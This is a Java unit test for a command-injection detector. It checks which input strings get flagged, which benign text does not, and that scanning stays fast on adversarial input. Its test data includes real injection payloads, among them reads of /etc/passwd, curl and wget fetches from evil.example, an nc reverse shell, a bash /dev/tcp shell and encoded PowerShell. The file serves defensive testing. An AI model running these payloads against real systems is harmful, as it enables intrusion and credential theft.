package io.bulwark.inspect;

import static io.bulwark.inspect.Values.findings;
import static io.bulwark.inspect.Values.level;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CmdiDetectorTest {
    private final CmdiDetector detector = new CmdiDetector();

    @Test
    void reports_category_and_evidence() {
        List<Finding> found = findings(detector, "x; cat /etc/passwd");

        assertThat(found).singleElement().satisfies(f -> {
            assertThat(f.category()).isEqualTo(Category.CMDI);
            assertThat(f.paranoia()).isEqualTo(1);
            assertThat(f.evidence()).contains("cat /etc/passwd");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "; cat /etc/passwd",
                "1.2.3.4; cat /etc/passwd",
                "foo | id",
                "foo|id",
                "x && whoami",
                "x || uname -a",
                "`id`",
                "$(id)",
                "$(curl http://evil.example/x.sh)",
                "a;cat${IFS}/etc/passwd",
                "127.0.0.1%0acat /etc/passwd",
                "x\nwget http://evil.example/s.sh",
                "; /bin/sh -i",
                "| /usr/bin/id",
                "w'h'o'a'm'i",
                "who\"am\"i",
                "c\\at /etc/passwd",
                "wh$@oami",
                "{cat,/etc/passwd}",
                "; nc -e /bin/sh 10.0.0.1 4444",
                "& ping -c 10 127.0.0.1 &",
                "| powershell -enc SQBFAFgA",
                "& cmd.exe /c dir",
                "| dir c:\\",
                "; sleep 10 ;",
                "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
                "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
                ";system('id')",
            })
    void flags_injections_at_level_one(String payload) {
        assertThat(level(detector, payload)).as(payload).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat /etc/passwd", "ping -c 3 10.0.0.1", "whoami", "uname -a", "id;"})
    void flags_a_value_that_is_a_command_at_level_two(String payload) {
        assertThat(level(detector, payload)).as(payload).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Tom & Jerry",
                "salt; pepper; cat food",
                "rock | cat lovers",
                "a | b",
                "Smith & Sons; Ltd.",
                "I love my cat; she sleeps all day",
                "AT&T",
                "Q&A",
                "id",
                "ID card | passport",
                "fish & chips",
                "Please ping me when ready",
                "sleep well; see you",
                "C:\\Users\\me\\file.txt",
                "docs/readme.txt",
                "color: red; font: bold",
                "x=1; y=2",
                "I have 3 cats & 2 dogs",
                "yes | no | maybe",
                "don't",
                "$5 & $10",
                "05111222333\nandy.surname@somedomain.com",
                "call me; john.doe@example.com",
            })
    void does_not_flag_normal_input_at_level_one(String value) {
        assertThat(level(detector, value)).as(value).isGreaterThan(1);
    }

    @Test
    @Timeout(value = 60, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void stays_linear_on_adversarial_input() {
        assertBounded(";".repeat(1 << 20));
        assertBounded("|".repeat(1 << 20));
        assertBounded("; ".repeat(1 << 19));
        assertBounded("$(".repeat(1 << 19));
        assertBounded("{".repeat(1 << 20));
        assertBounded("'".repeat(1 << 20));
        assertBounded(";" + "a".repeat(1 << 20));
    }

    private void assertBounded(String value) {
        long start = System.nanoTime();
        detector.inspect(new InspectedValue(value, List.of(value), Values.LOCATION, false), f -> {});
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
    }
}
